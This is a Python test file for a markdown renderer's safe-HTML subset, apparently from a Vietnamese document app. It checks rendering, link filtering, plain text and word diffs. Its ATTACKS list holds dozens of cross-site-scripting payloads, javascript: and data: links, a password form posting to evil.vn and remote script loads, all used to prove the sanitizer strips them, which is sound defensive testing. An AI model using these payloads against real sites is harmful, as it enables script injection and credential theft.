"""The safe subset: what renders, what never does, plain text, and the comparison of two texts."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sotay.ui.markdown import ATTRIBUTES, TAGS, escape, is_safe_link, plain, render, word_diff

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.vn/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='//evil.vn'>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='position:fixed'>x</p>",
    "<link rel=stylesheet href=//evil.vn>",
    "<meta http-equiv=refresh content='0;url=//evil.vn'>",
    "<base href='//evil.vn/'>",
    "<form action='//evil.vn'><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.vn)",
    "[x](/\\evil.vn)",
    "[x](\\\\evil.vn)",
    "[x](%5c%5cevil.vn)",
    '[x](https://a.vn "\\" onmouseover=\\"alert(1)")',
    "[x](https://a.vn'onmouseover='alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.vn/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.vn/x.png)',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]: data:text/html,x\n\n[x]",
    "| a |\n|:--:|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "**<b onmouseover=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]


class Seen(HTMLParser):
    """Collects the tags and attributes of a piece of HTML."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, _data):
        self.tags.append(("!--", {}))

    def handle_decl(self, _decl):
        self.tags.append(("!", {}))


def assert_safe(html):
    seen = Seen()
    seen.feed(html)
    for tag, attributes in seen.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if tag == "a":
            assert attributes["rel"] == "noopener"
            assert is_safe_link(attributes["href"])
            assert not re.match(r"(?i)\s*(javascript|vbscript|data|file):|[/\\]{2}", attributes["href"])


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_renders_as_text(attack):
    assert_safe(render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_comparison_is_text(attack):
    compared = word_diff("một hai", f"một {attack} hai")
    tags = [tag for line in (*compared.left, *compared.right) for tag in re.findall(r"<[^>]*>", line)]
    assert set(tags) <= {"<ins>", "</ins>", "<del>", "</del>"}


MARKS = st.sampled_from(
    [*ATTACKS, "](", "[", "<", ">", "*", "_", "|", "\n", "- ", "# ", "&#", ";", "http://", "\\", " "]
)


@given(st.lists(st.one_of(MARKS, st.text(max_size=8)), max_size=12).map("".join))
def test_no_input_gets_a_tag_outside_the_list(text):
    assert_safe(render(text))


def test_the_subset_renders():
    assert render("## Một\n\nHai **ba** *bốn*\\\nnăm") == (
        "<h3>Một</h3>\n<p>Hai <strong>ba</strong> <em>bốn</em><br>\nnăm</p>\n"
    )
    assert render("- a\n  1. b\n") == "<ul>\n<li>a\n<ol>\n<li>b</li>\n</ol>\n</li>\n</ul>\n"
    assert '<th scope="col">A</th>' in render("| A |\n|---|\n| 1 |")


@pytest.mark.parametrize(("marks", "tag"), [("#", "h3"), ("###", "h3"), ("####", "h4"), ("######", "h5")])
def test_headings_stand_below_those_of_the_page(marks, tag):
    assert render(f"{marks} Một") == f"<{tag}>Một</{tag}>\n"


@pytest.mark.parametrize(
    ("address", "safe"),
    [
        ("https://vanban.chinhphu.vn/?a=1&b=2", True),
        ("http://a.vn", True),
        ("/stttt/support/documents/", True),
        ("#muc-4", True),
        ("tai-lieu/1", True),
        ("ftp://a.vn", False),
        ("mailto:a@b.vn", False),
        ("//evil.vn", False),
        ("/\\evil.vn", False),
        ("/%5Cevil.vn", False),
        (" javascript:alert(1)", False),
        ("java\tscript:alert(1)", False),
    ],
)
def test_which_links_are_made(address, safe):
    assert is_safe_link(address) is safe
    if " " not in address and "\t" not in address:
        assert ("<a " in render(f"[x]({address})")) is safe


LINE = st.text(
    st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp", "Zs"), exclude_characters="\u00ad"), max_size=30
)


@given(st.lists(LINE.filter(bool), min_size=1, max_size=5).map(" ".join))
def test_escaped_text_reads_as_it_was_written(text):
    assert plain(escape(text)) == text
    assert unescape(re.sub(r"^<p>|</p>\n$", "", render(escape(text)))) == text


def test_plain_keeps_words_lists_and_rows_without_marks():
    text = "#### Con người\n\n**Một** [hai](https://a.vn)\nba\n\n- a\n   - b\n\n3. c\n4. d\n\n| A | B |\n|---|---|\n| 1 | 2 |"
    assert plain(text) == "Con người\nMột hai ba\n- a\n  - b\n3. c\n4. d\nA | B\n1 | 2"


def test_equal_texts_have_no_mark():
    compared = word_diff("Một\nHai <b>", "Một\nHai <b>")
    assert not compared.changed
    assert compared.left == compared.right == ("Một", "Hai &lt;b&gt;")


def test_changed_words_are_marked_on_their_side():
    compared = word_diff("Trước ngày 10/6 các phòng báo cáo.", "Trước ngày 10/7 các phòng phải báo cáo.")
    assert compared.left == ("Trước ngày 10/<del>6</del> các phòng báo cáo.",)
    assert compared.right == ("Trước ngày 10/<ins>7</ins> các phòng <ins>phải </ins>báo cáo.",)


def test_new_and_dropped_lines_stand_beside_empty_ones():
    compared = word_diff("a\nb\nc", "a\nc\nd")
    assert compared.rows == (("a", "a"), ("<del>b</del>", ""), ("c", "c"), ("", "<ins>d</ins>"))


def bare(lines):
    without = [re.sub(r"</?(ins|del)>", "", line) for line in lines]
    return [unescape(line) for line in without if line]


@given(st.lists(LINE, max_size=6), st.lists(LINE, max_size=6))
def test_each_side_still_says_what_its_text_said(old, new):
    compared = word_diff("\n".join(old), "\n".join(new))
    assert len(compared.left) == len(compared.right)
    assert bare(compared.left) == [line for line in "\n".join(old).splitlines() if line]
    assert bare(compared.right) == [line for line in "\n".join(new).splitlines() if line]
    assert not any("<ins>" in line for line in compared.left)
    assert not any("<del>" in line for line in compared.right)
    assert compared.changed == ("\n".join(old).splitlines() != "\n".join(new).splitlines())
